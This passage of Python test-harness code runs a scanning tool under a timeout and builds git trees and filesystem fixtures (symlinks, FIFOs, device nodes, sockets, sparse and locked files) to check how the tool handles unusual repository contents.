    argv = [sys.executable, "-E", "-s", str(_ROOT / "entrypoint.py"), *words, "--out", str(out)]
    environment = {"PATH": os.environ.get("PATH", os.defpath), "HOME": str(here / "home")}
    code, said = _ended(argv, environment)
    seconds = time.monotonic() - started
    scan = jsonio.load(ScanResult, (out / "scan.json").read_bytes(), "scan.json") if (out / "scan.json").exists() else None
    made = (out / "decision.json").exists()
    decision = jsonio.load(Decision, (out / "decision.json").read_bytes(), "decision.json") if made else None
    return Seen(code, said, seconds, scan, decision)


def _ended(argv: Sequence[str], environment: Mapping[str, str]) -> tuple[int | None, str]:
    """Our own command. It is stopped as from the keyboard, which ends whatever it has started, and if need be killed."""
    stops = [signal.SIGINT, signal.SIGKILL]
    with subprocess.Popen(argv, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) as child:  # noqa: S603
        while True:
            try:
                _, err = child.communicate(timeout=SECONDS)
            except subprocess.TimeoutExpired:
                child.send_signal(stops.pop(0))
            else:
                break
    return (child.returncode if len(stops) == 2 else None), err.decode("utf-8", "replace")


def _stored(repository: Repository, files: Mapping[bytes, Planted]) -> str:
    """A tree of git's with names that it would not take by itself, the deepest folder first."""
    folders: dict[bytes, list[tuple[bytes, bytes, str]]] = {b"": []}
    for path, planted in files.items():
        assert isinstance(planted, bytes)  # noqa: S101 - nothing else stands in such a tree
        folder, _, name = path.rpartition(b"/")
        folders.setdefault(folder, []).append((name, b"100644", _object(repository, b"blob", planted)))
        while folder:
            folder = folder.rpartition(b"/")[0]
            folders.setdefault(folder, [])
    for folder in sorted(folders, key=lambda path: -path.count(b"/") - bool(path)):
        entries = (b"%s %s\0%s" % (mode, name, bytes.fromhex(oid)) for name, mode, oid in sorted(folders[folder]))
        tree = _object(repository, b"tree", b"".join(entries))
        if folder:
            above, _, name = folder.rpartition(b"/")
            folders[above].append((name, b"40000", tree))
    return tree


def _object(repository: Repository, kind: bytes, body: bytes) -> str:
    """Written without git, which would be started thousands of times."""
    whole = b"%s %d\0%s" % (kind, len(body), body)
    oid = sha1(whole, usedforsecurity=False).hexdigest()
    file = repository.path / ".git" / "objects" / oid[:2] / oid[2:]
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(zlib.compress(whole))
    return oid


def _plant(root: bytes, parts: Sequence[bytes], planted: Planted) -> None:
    for depth in range(len(parts)):
        with suppress(FileExistsError):
            os.mkdir(b"/".join((root, *parts[:depth])))  # noqa: PTH102 - pathlib knows no bytes
    path = b"/".join((root, *parts))
    match planted:
        case Symlink(target):
            os.symlink(target, path)  # noqa: PTH211
        case Fifo():
            os.mkfifo(path)
        case Device():
            os.mknod(path, S_IFCHR | 0o644, os.makedev(1, 5))
        case Listener():
            _listen(path)
        case Sparse(size):
            _write(path, b"")
            os.truncate(path, size)
        case Locked(data):
            _write(path, data)
            os.chmod(path, 0)  # noqa: PTH101
        case bytes():
            _write(path, planted)


def _write(path: bytes, data: bytes) -> None:
    Path(os.fsdecode(path)).write_bytes(data)


def _listen(path: bytes) -> None:
    """The name stays when the listener is gone. It is bound from where it stands, since it must be short."""
    folder, _, name = path.rpartition(b"/")
    before = Path.cwd()
    os.chdir(folder)
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(name)
    finally:
        os.chdir(before)
